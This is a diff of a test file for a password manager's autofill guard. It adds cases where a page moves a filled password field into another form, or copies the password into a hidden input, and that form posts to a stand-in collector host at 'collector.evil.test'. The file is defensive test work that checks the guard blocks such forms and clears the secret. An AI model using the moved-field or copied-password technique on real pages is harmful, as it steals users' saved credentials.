@@ -1,9 +1,16 @@
 // Where a form sends a password. A destination on another origin is named before a fill; a form whose
-// destination is rewritten to another origin after a fill is stopped, and what we filled is cleared.
+// destination is rewritten to another origin after a fill is stopped, and what we filled is cleared;
+// so is a form elsewhere that the page moved a filled field into, or copied the password into.
 // (form.submit() and `new FormData` go through the formdata event, which jsdom does not fire: the
 // e2e security suite covers that path in Chromium.)
 import { describe, expect, it } from 'vitest';
-import { createFormActionGuard, destinationOrigin, foreignDestinationHost } from '../../../src/autofill/fill/guard-form-action';
+import {
+  createFormActionGuard,
+  destinationOf,
+  destinationOrigin,
+  foreignDestinationHost,
+  sendsAsBefore,
+} from '../../../src/autofill/fill/guard-form-action';
 import { testPage } from './dom';
 
 const FORM = (action: string) =>
@@ -35,7 +42,7 @@ describe('createFormActionGuard', () => {
     const form = page.document.getElementById('f') as HTMLFormElement;
     const password = page.field('#p') as HTMLInputElement;
     password.value = 'pw-saved';
-    guard.pin(password, [[password, 'pw-saved']]);
+    guard.pin([{ field: password, value: 'pw-saved', secret: true }]);
     return { page, form, password, blocked };
   }
 
@@ -60,5 +67,54 @@ describe('createFormActionGuard', () => {
     expect(reachedPage).toBe(false);
     expect(password.value).toBe('');
     expect(blocked).toEqual(['collector.evil.test']);
+  });
+
+  function elsewhere(page: ReturnType<typeof testPage>): { other: HTMLFormElement; reachedPage: () => boolean } {
+    const other = page.document.createElement('form');
+    other.action = 'https://collector.evil.test/grab';
+    other.innerHTML = '<input type="hidden" name="copy">';
+    page.document.body.append(other);
+    let reached = false;
+    other.addEventListener('submit', (event) => {
+      reached = true;
+      event.preventDefault();
+    });
+    return { other, reachedPage: () => reached };
+  }
+
+  it('stops a form elsewhere that the page moved the filled field into', () => {
+    const { page, password, blocked } = guarded();
+    const { other, reachedPage } = elsewhere(page);
+    other.append(password);
+    other.requestSubmit();
+    expect(reachedPage()).toBe(false);
+    expect(password.value).toBe('');
+    expect(blocked).toEqual(['collector.evil.test']);
+  });
+
+  it('stops a form elsewhere that the page copied the filled password into, and clears the copy', () => {
+    const { page, password, blocked } = guarded();
+    const { other, reachedPage } = elsewhere(page);
+    const copy = other.querySelector('input')!;
+    copy.value = password.value;
+    other.requestSubmit();
+    expect(reachedPage()).toBe(false);
+    expect([password.value, copy.value]).toEqual(['', '']);
+    expect(blocked).toEqual(['collector.evil.test']);
+  });
+});
+
+describe('sendsAsBefore', () => {
+  it('holds while the field stays in its form and the form keeps its destination, and fails when either changes', () => {
+    const page = testPage(FORM('/session') + '<form id="o" action="https://collector.evil.test/grab"></form>');
+    const password = page.field('#p') as HTMLInputElement;
+    const before = destinationOf(password);
+    expect(sendsAsBefore(password, before)).toBe(true);
+    page.document.getElementById('o')!.append(password);
+    expect(sendsAsBefore(password, before)).toBe(false);
+    page.document.getElementById('f')!.append(password);
+    expect(sendsAsBefore(password, before)).toBe(true);
+    (page.document.getElementById('f') as HTMLFormElement).action = 'https://collector.evil.test/grab';
+    expect(sendsAsBefore(password, before)).toBe(false);
   });
 });
